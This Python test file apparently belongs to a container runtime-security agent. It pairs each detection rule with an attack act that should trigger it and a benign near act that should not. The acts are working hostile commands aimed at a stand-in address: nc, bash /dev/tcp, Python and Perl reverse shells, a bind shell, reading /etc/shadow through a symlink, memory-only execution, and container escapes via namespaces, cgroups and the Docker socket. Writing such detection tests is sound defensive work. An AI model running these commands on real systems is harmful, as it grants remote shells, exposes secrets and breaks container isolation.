"""Each rule that is shipped, against real containers on this kernel: an act that fires it, and near acts that do not.

A rule without a case here fails the suite. All of it takes one agent and a few containers; the acts are played in the order
of CASES, each behind a fence: a program whose start is seen for sure, so that what came before it has been judged.
"""
import contextlib
import ctypes
import itertools
import os
import pathlib
import re
import signal
import socket
import threading

import lab
import pytest
import task_memory
from conftest import workspace

from lab.containers import V2, helper, quiet

HERE = pathlib.Path(__file__).resolve().parent
TOP = HERE.parents[1]
DEMO = TOP / "demo" / "src"
RULES = sorted((TOP / "rules").glob("*.yaml"))
SHIPPED = [name.strip() for path in RULES for name in re.findall(r"^- rule: (.+)$", path.read_text(), re.MULTILINE)]
ADDRESS = "10.77.0.1"  # not the loopback's, so that a connection to it leaves as one to another machine does
ATTACKER, CLOSED, INETD = 4444, 9, 7777
FENCE = """
- rule: fence
  desc: what came before it has been judged
  condition: evt.type in (execve, execveat) and container.id != host and proc.args startswith fence-
  output: fence (args=%proc.args)
  priority: DEBUG
"""
PYTHON_CONNECT = f"import socket; s = socket.socket(); s.connect_ex(('{ADDRESS}', {CLOSED}))"
PYTHON_SHELL = (f"import os, socket, subprocess; s = socket.socket(); s.connect(('{ADDRESS}', {ATTACKER})); "
                "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]; subprocess.call(['/bin/sh', '-i'])")
PERL_SHELL = (f"use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in({ATTACKER}, inet_aton('{ADDRESS}'))) or die; "
              "open(STDIN, '<&S'); open(STDOUT, '>&S'); open(STDERR, '>&S'); exec '/bin/sh', '-i';")
CAPABILITIES = ["CAP_SYS_ADMIN", "CAP_SYS_CHROOT", "CAP_SYS_PTRACE", "CAP_SETUID", "CAP_SETGID", "CAP_DAC_OVERRIDE", "CAP_CHOWN", "CAP_KILL"]


def socket_in(pid, port):
    """A listening socket in the network namespace of another process."""
    made = []

    def make():
        namespace = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
        try:
            if ctypes.CDLL(None, use_errno=True).setns(namespace, 0x40000000) != 0:
                raise OSError(ctypes.get_errno(), "setns")
            s = socket.socket()
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.bind(("0.0.0.0", port))
            s.listen(16)
            made.append(s)
        finally:
            os.close(namespace)

    thread = threading.Thread(target=make)  # the namespace is the thread's, the socket is everybody's
    thread.start()
    thread.join()
    return made[0]


class Stage:
    """An agent with the shipped rules alone, and the containers that the acts are played in."""

    def __init__(self, ws):
        self.ws, self.fences, self.flooded = ws, itertools.count(), False
        for name in ("memfd", "revshell", "flood"):
            ws.add_to_image(helper(DEMO / f"{name}.c"), f"/usr/bin/{name}")
        ws.add_to_image(helper(HERE / "acts.c"), "/usr/bin/acts")
        self._web(ws.base_image())
        fence = ws.folder("rules") / "fence.yaml"
        fence.write_text(FENCE)
        self.agent = lab.Agent(ws, rules=[*RULES, fence]).start()
        self.box = ws.container("box", edit=self._rights).start()
        self.debian = ws.container("debian", lower="/", edit=self._rights).start()  # bash, python, perl, dpkg
        self.debian.write("/usr/bin/acts", helper(HERE / "acts.c"))
        (self.debian.rootfs / "srv/connect.py").write_text(PYTHON_CONNECT)
        for container in (self.box, self.debian):
            for command in (("ip", "addr", "add", f"{ADDRESS}/24", "dev", "lo"), ("ip", "link", "set", "lo", "up")):
                quiet("nsenter", "-t", container.pid, "-n", "busybox", *command)
            attacker = socket_in(container.pid, ATTACKER)
            ws.defer(attacker.close)
            threading.Thread(target=self._attack, args=(attacker,), daemon=True).start()
        assert self.box.exec("httpd", "-p", "8080", "-h", "/srv/www")[0] == 0

    @staticmethod
    def _web(image):
        (image / "srv/www/cgi-bin").mkdir(parents=True)
        (image / "srv/www/page").write_text("a page\n")
        (image / "srv/www/cgi-bin/shell").write_text("#!/bin/sh\nprintf 'Content-Type: text/plain\\r\\n\\r\\n'; id\n")
        (image / "srv/www/cgi-bin/shell").chmod(0o755)
        (image / "etc/plain.conf").write_text("nothing secret\n")

    @staticmethod
    def _rights(spec):
        for kind in ("bounding", "effective", "permitted"):
            have = spec["process"]["capabilities"].setdefault(kind, [])
            have += [c for c in CAPABILITIES if c not in have]
        spec["process"]["noNewPrivileges"] = False

    @staticmethod
    def _attack(listener):
        """Whoever calls gets one command and is sent away."""
        while True:
            try:
                s, _ = listener.accept()
            except OSError:
                return
            with contextlib.suppress(OSError), s:
                s.settimeout(10)
                s.sendall(b"exit\n")
                s.shutdown(socket.SHUT_WR)
                while s.recv(4096):
                    pass

    def found(self, rule, since=0):
        return [f for f in self.agent.findings()[since:] if f["rule"] == rule]

    def heard(self, rule, since=0):
        return self.agent.wait_finding(lambda f: f["rule"] == rule, 15, since)

    def fence(self):
        mark = f"fence-{next(self.fences)}"
        assert self.box.exec("true", mark)[0] == 0
        self.agent.wait_finding(lambda f: f["rule"] == "fence" and f["output_fields"]["proc.args"] == mark, 15)

    # ── what several cases play ──

    def with_socket(self, name):
        """A container that is given the file `name` of the host."""
        source = self.ws.folder("host") / name
        source.touch()

        def mounted(spec):
            spec["mounts"].append({"destination": f"/run/{name}", "type": "bind", "source": str(source), "options": ["bind"]})

        container = self.ws.container(name.replace(".", "-"), edit=mounted).start()
        container.remove()

    def bind_socket(self, path):
        """Somebody listens at `path` in the box."""
        listener = self.box.spawn("acts", "listen-unix", path)
        self.ws.defer(lambda: (listener.kill(), listener.wait()))
        lab.wait_for((self.box.rootfs / path.lstrip("/")).exists, 10, f"a listener at {path}")

    def inetd(self, container, *program):
        """A service of inetd's kind, called once."""
        server = container.spawn("acts", "serve", str(INETD), *program)
        caller = f"until echo exit | busybox nc {ADDRESS} {INETD} 2>/dev/null; do sleep 0.02; done"
        said = ran(container, "timeout", "10", "sh", "-c", caller)
        assert server.wait(lab.patience(10)) == 0
        return said

    def sleeper(self):
        """The host's number of a process of the box that has been started to be looked at."""
        sleeping = self.box.spawn("sleep", "4321")
        self.ws.defer(lambda: (sleeping.kill(), sleeping.wait()))
        return lab.wait_for(lambda: self.pid_of(b"sleep\x004321\0"), 10, "the sleeper")

    def pid_of(self, command):
        for pid in (self.box.cgroup() / "cgroup.procs").read_text().split():
            with contextlib.suppress(OSError):
                if pathlib.Path(f"/proc/{pid}/cmdline").read_bytes() == command:
                    return int(pid)
        return None

    def without_a_call(self, offset=None, values=()):
        """A process of the box forks; before that, what is remembered of it is rewritten (or not)."""
        go = f"/tmp/go-{next(self.fences)}"
        waiting = self.box.spawn("acts", "wait-for", go)
        pid = lab.wait_for(lambda: self.pid_of(b"acts\0wait-for\0" + go.encode() + b"\0"), 10, "the waiting process")
        if offset is not None:
            task_memory.rewrite(self.agent.process.pid, pid, offset, values)
        (self.box.rootfs / go.lstrip("/")).touch()
        assert waiting.wait(lab.patience(10)) == 0

    def flood(self):
        """A flood while the agent gets no processor: its rings fill up."""
        if self.flooded:
            return
        self.flooded = True
        self.agent.process.send_signal(signal.SIGSTOP)
        try:
            assert self.box.exec("flood", "2")[0] == 0
        finally:
            self.agent.process.send_signal(signal.SIGCONT)


def ran(container, *command, status=0):
    code, said = container.exec(*command)
    assert code == status, (command, code, said)
    return said


def dropped_program(s):
    s.box.write("/tmp/dropped", "/bin/busybox")
    s.box.exec("/tmp/dropped")


def ordinary_sleeper(s):
    ran(s.box, "acts", "attach-child")


def attach_to_another(s):
    number = pathlib.Path(f"/proc/{s.sleeper()}/status").read_text()
    ran(s.box, "acts", "attach", re.search(r"^NSpid:.*\t(\d+)$", number, re.MULTILINE)[1])


def move_sleeper(s, where):
    """As whoever holds the cgroup tree can: the box's sleeper is written into another cgroup, and back."""
    home = s.box.cgroup()
    other = where(home)
    other.mkdir()
    pid = str(s.sleeper())
    try:
        (other / "cgroup.procs").write_text(pid)
    finally:
        (home / "cgroup.procs").write_text(pid)
        other.rmdir()


def script_file(s):
    ran(s.debian, "python3", "/srv/connect.py")
    ran(s.debian, "python3", "-c", PYTHON_CONNECT.replace(ADDRESS, "127.0.0.1"))


def host_mount_namespace(s):
    def hosts_processes(spec):
        Stage._rights(spec)
        spec["linux"]["namespaces"] = [n for n in spec["linux"]["namespaces"] if n["type"] != "pid"]

    container = s.ws.container("host-pid", edit=hosts_processes).start()
    ran(container, "nsenter", "-t", str(os.getpid()), "-m", "/bin/true")
    container.remove()


def look_for_sockets(s):
    ran(s.box, "acts", "connect-unix", "/run/docker.sock")
    s.bind_socket("/tmp/containerd.sock")
    (s.box.rootfs / "tmp/innocent").symlink_to("/tmp/containerd.sock")
    ran(s.box, "acts", "connect-unix", "/tmp/innocent")
    s.agent.wait_finding(lambda f: f["rule"] == "Runtime socket looked for" and f["output_fields"]["fd.name"] == "/tmp/containerd.sock", 15)


def connect_elsewhere(s):
    s.bind_socket("/tmp/app.sock")
    ran(s.box, "acts", "connect-unix", "/tmp/app.sock")
    ran(s.box, "acts", "connect-unix", "/run/docker.sock.bak")


def reverse_shells(s):
    """Every one of them must be found, by its own command."""
    rule = "Shell on a network connection"
    for name, container, command in (
            ("nc -e sh", s.box, ("nc", ADDRESS, str(ATTACKER), "-e", "sh")),
            ("nc -e busybox sh", s.box, ("nc", ADDRESS, str(ATTACKER), "-e", "/bin/busybox", "sh")),
            ("a program of one's own", s.box, ("revshell", str(ATTACKER))),
            ("bash, /dev/tcp", s.debian, ("bash", "-c", f"bash -i >& /dev/tcp/{ADDRESS}/{ATTACKER} 0>&1")),
            ("output only", s.debian, ("bash", "-c", f"sh -c id > /dev/tcp/{ADDRESS}/{ATTACKER} < /dev/null; true")),
            ("python, a shell", s.debian, ("python3", "-c", PYTHON_SHELL)),
            ("perl, a shell", s.debian, ("perl", "-e", PERL_SHELL)),
            ("a python that listens to the caller", s.debian, ("bash", "-c", f"python3 - <> /dev/tcp/{ADDRESS}/{ATTACKER}"))):
        since = len(s.agent.findings())
        container.exec(*command)
        finding = s.heard(rule, since)
        assert finding["output_fields"]["proc.stdio.connection"].endswith(f":{ATTACKER}"), (name, finding)
    since = len(s.agent.findings())
    s.inetd(s.box, "sh")  # a bind shell
    assert s.heard(rule, since)["output_fields"]["proc.stdio.connection"].startswith(f"{ADDRESS}:{INETD}->")


def servers_of_inetds_kind(s):
    assert "a page" in ran(s.box, "wget", "-q", "-O-", "http://127.0.0.1:8080/page")  # httpd: the connection is its 0 and 1
    assert "uid=0" in ran(s.box, "wget", "-q", "-O-", "http://127.0.0.1:8080/cgi-bin/shell")  # and its scripts have pipes
    assert "exit" in s.inetd(s.box, "cat")
    s.inetd(s.debian, "python3", "/srv/connect.py")  # an interpreter with a file is a service
    ran(s.box, "sh", "-c", f"nc {ADDRESS} {ATTACKER} </dev/null | sh")  # a pipe is not a connection


def move_onto_connections(s):
    rule = "Shell moved onto a network connection"
    for command in (("bash", "-c", f"exec 0<> /dev/tcp/{ADDRESS}/{ATTACKER}"), ("python3", "-c", PYTHON_SHELL)):
        since = len(s.agent.findings())
        s.debian.exec(*command)
        s.heard(rule, since)


def moves_elsewhere(s):
    servers_of_inetds_kind(s)
    ran(s.debian, "bash", "-c", f"exec 5<> /dev/tcp/{ADDRESS}/{ATTACKER}; exec 1>/dev/null")


def box(*command, status=0):
    return lambda s: ran(s.box, *command, status=status)


def debian(*command, status=0):
    return lambda s: ran(s.debian, *command, status=status)


# Rule → (the act that must fire it, what must not).
CASES = {
    "Interactive shell in a container": (lambda s: s.box.shell("id"), box("sh", "-c", "id")),
    "Program run that is not in the image": (dropped_program, box("/bin/busybox", "true")),
    "Program run from memory": (box("memfd", "/bin/busybox", "id"), box("busybox", "id")),
    "Package manager in a container": (debian("dpkg", "--version"), debian("dpkg-query", "--version")),
    "Shell started by a server": (box("wget", "-q", "-O-", "http://127.0.0.1:8080/cgi-bin/shell"),
                                  box("sh", "-c", "sh -c id; wget -q -O- http://127.0.0.1:8080/page")),
    "Secret file opened": (box("sh", "-c", "ln -s /etc/shadow /tmp/s; cat /tmp/s"), box("cat", "/etc/passwd", "/etc/plain.conf")),
    "Runtime socket given to a container": (lambda s: s.with_socket("docker.sock"), lambda s: s.with_socket("docker.socket")),
    "Runtime socket looked for": (look_for_sockets, connect_elsewhere),
    "Shell on a network connection": (reverse_shells, servers_of_inetds_kind),
    "Shell moved onto a network connection": (move_onto_connections, moves_elsewhere),
    "Connection out by a shell": (debian("bash", "-c", f"echo > /dev/tcp/{ADDRESS}/{ATTACKER}"),
                                  debian("bash", "-c", f"echo > /dev/tcp/127.0.0.1/{ATTACKER}")),
    "Connection out by a one-line script": (debian("python3", "-c", PYTHON_CONNECT), script_file),
    "Namespace change in a container": (box("unshare", "-u", "true"), box("nsenter", "-t", "1", "-u", "true")),
    "Entered the host's mount namespace": (host_mount_namespace, box("unshare", "-m", "true")),
    "Process moved out of its container": (lambda s: move_sleeper(s, lambda home: V2 / f"{s.ws.name}-out"),
                                           lambda s: move_sleeper(s, lambda home: home / "within")),
    "Mount in a container": (box("mount", "-t", "tmpfs", "x", "/home"), box("mount", "-t", "tmpfs", "x", "/no/such", status=255)),
    "Another process taken over": (attach_to_another, ordinary_sleeper),
    "Became root": (box("acts", "become-root"), box("acts", "drop-root")),
    "Credentials changed that no call explains": (
        lambda s: s.without_a_call(task_memory.CREDS, [1000] * 8), lambda s: s.without_a_call()),
    "Namespaces changed that no call explains": (
        lambda s: s.without_a_call(task_memory.NSES, [1, 2, 3]), lambda s: s.without_a_call()),
    "Flood held back": (Stage.flood, box("sh", "-c", "for i in 1 2 3 4 5 6 7 8 9; do true; done")),
    "Records lost": (Stage.flood, None),
}


def test_every_shipped_rule_has_a_case():
    assert sorted(SHIPPED) == sorted(set(SHIPPED)), "a rule's name is there twice"
    assert set(CASES) == set(SHIPPED)


@pytest.fixture(scope="module")
def stage(request):
    with workspace(request) as ws:
        yield Stage(ws)


@pytest.mark.kernel
@pytest.mark.parametrize("rule", CASES)
def test_rule(stage, rule):
    act, near = CASES[rule]
    if near:
        since = len(stage.agent.findings())
        near(stage)
        stage.fence()
        assert not stage.found(rule, since), "a near act fired it"
    since = len(stage.agent.findings())
    act(stage)
    if not stage.flooded:
        assert stage.heard(rule, since)
    else:
        assert stage.heard(rule)
